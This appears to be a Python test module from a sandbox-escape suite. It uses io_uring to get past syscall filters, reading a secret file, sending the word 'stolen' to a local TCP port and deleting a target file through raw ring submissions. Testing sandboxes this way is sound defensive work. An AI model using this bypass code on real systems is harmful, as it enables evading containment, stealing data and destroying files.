"""io_uring: work handed to the kernel through shared memory, where no filter sees it."""

from __future__ import annotations

from tests.escape.attack import KERNEL, Attack

TOPIC = "io_uring"

# A ring of one's own, and `submit`, which has one entry done and gives its result.
RING = r"""
import mmap, struct
parameters = ctypes.create_string_buffer(120)
ring = call("io_uring_setup", 4, parameters)
p = parameters.raw
sq_entries, cq_entries = struct.unpack_from("II", p, 0)
sq_tail, sq_array = struct.unpack_from("I", p, 44)[0], struct.unpack_from("I", p, 64)[0]
cq_head, cq_cqes = struct.unpack_from("I", p, 80)[0], struct.unpack_from("I", p, 100)[0]
shared = mmap.mmap(ring, max(sq_array + 4 * sq_entries, cq_cqes + 16 * cq_entries), offset=0)
entries = mmap.mmap(ring, 64 * sq_entries, offset=0x10000000)
number = 0
def submit(opcode, fd, address, length=0, offset=0, flags=0):
    global number
    entry = struct.pack("=BBHiQQII", opcode, 0, 0, fd, offset, address, length, flags)
    entries[0:64] = entry + bytes(32)
    struct.pack_into("I", shared, sq_array + 4 * (number % sq_entries), 0)
    struct.pack_into("I", shared, sq_tail, number + 1)
    call("io_uring_enter", ring, 1, 1, 1, 0, 0)
    result = struct.unpack_from("=i", shared, cq_cqes + 16 * (number % cq_entries) + 8)[0]
    number += 1
    struct.pack_into("I", shared, cq_head, number)
    if result < 0:
        raise OSError(-result, os.strerror(-result), f"operation {opcode}")
    return result
"""

ABSENT = ("ENOSYS", "EPERM")

ATTACKS = (
    Attack(
        "a ring at all",
        TOPIC,
        """
parameters = ctypes.create_string_buffer(120)
escaped("ring", call("io_uring_setup", 1, parameters))
""",
        needs=KERNEL,
        otherwise=ABSENT,
    ),
    Attack(
        "a file opened and read through a ring",
        TOPIC,
        RING
        + """
path = ctypes.create_string_buffer(W.secret.encode())
content = ctypes.create_string_buffer(100)
fd = submit(18, -100, ctypes.addressof(path), flags=0)
submit(22, fd, ctypes.addressof(content), 99)
print(content.value.decode())
""",
        needs=KERNEL,
        otherwise=ABSENT,
    ),
    Attack(
        "a connection made through a ring",
        TOPIC,
        RING
        + """
fd = submit(45, 2, 0, 0, offset=1)
port = W.tcp_port.to_bytes(2, "big")
packed = (2).to_bytes(2, "little") + port + bytes([127, 0, 0, 1]) + bytes(8)
address = ctypes.create_string_buffer(packed, 16)
submit(16, fd, ctypes.addressof(address), offset=16)
text = ctypes.create_string_buffer(b"stolen")
submit(26, fd, ctypes.addressof(text), 6)
""",
        needs=KERNEL,
        otherwise=ABSENT,
    ),
    Attack(
        "a file removed through a ring",
        TOPIC,
        RING
        + """
path = ctypes.create_string_buffer(W.target.encode())
submit(36, -100, ctypes.addressof(path))
""",
        needs=KERNEL,
        otherwise=ABSENT,
    ),
    Attack(
        "the other two calls of a ring",
        TOPIC,
        """
# With a descriptor that is none: a kernel that looks at it has taken the call.
for name in ("io_uring_enter", "io_uring_register"):
    try:
        call(name, -1, 0, 0, 0, 0, 0)
    except OSError as error:
        if error.errno not in (errno.ENOSYS, errno.EPERM):
            escaped(name, error)
""",
        needs=KERNEL,
        otherwise=ABSENT,
    ),
)
